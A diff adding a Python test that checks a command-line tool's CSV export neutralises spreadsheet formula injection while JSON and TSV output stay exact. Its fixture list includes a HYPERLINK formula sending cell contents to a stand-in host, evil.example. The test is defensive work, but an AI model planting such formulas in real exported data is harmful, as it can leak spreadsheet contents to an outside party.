@@ -529,3 +529,29 @@ def test_run_show_explains_a_missing_id(faked: tuple[App, list[FakeClient]]) -> 
         "id": make_project(4, "https://vh.test")["id"],
         "detail": True,
     }
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+SUM(1,1)", "@SUM(1)", "-2+3",
+            "\tTAB", "\rCR"]  # fmt: skip
+
+
+def test_csv_neutralises_formulas_while_other_formats_stay_exact(
+    cli: InProcessCli, emulator: Emulator
+) -> None:
+    emulator.config.projects = 0
+    emulator.config.extra_projects = [
+        {"id": f"f{n}", "name": name, "execution_count": -2} for n, name in enumerate(FORMULAS)
+    ]
+    env = emulator_env(emulator)
+
+    def column(fmt: str, field: str, **extra: str) -> list[str]:
+        text = ok(cli, "projects", "list", "--format", fmt, env={**env, **extra})
+        return [row[field] for row in csv.DictReader(io.StringIO(text, newline=""))]
+
+    assert column("csv", "name") == ["'" + name for name in FORMULAS]
+    assert column("csv", "execution_count") == ["-2"] * len(FORMULAS)  # a number, not text
+    assert column("csv", "name", VH_CSV_FORMULAS="keep") == FORMULAS
+    exact = json.loads(ok(cli, "projects", "list", "--json", env=env))
+    assert [project["name"] for project in exact] == FORMULAS
+    tsv = read_tsv_records(ok(cli, "projects", "list", "--format", "tsv", env=env))
+    assert [row["name"] for row in tsv] == FORMULAS
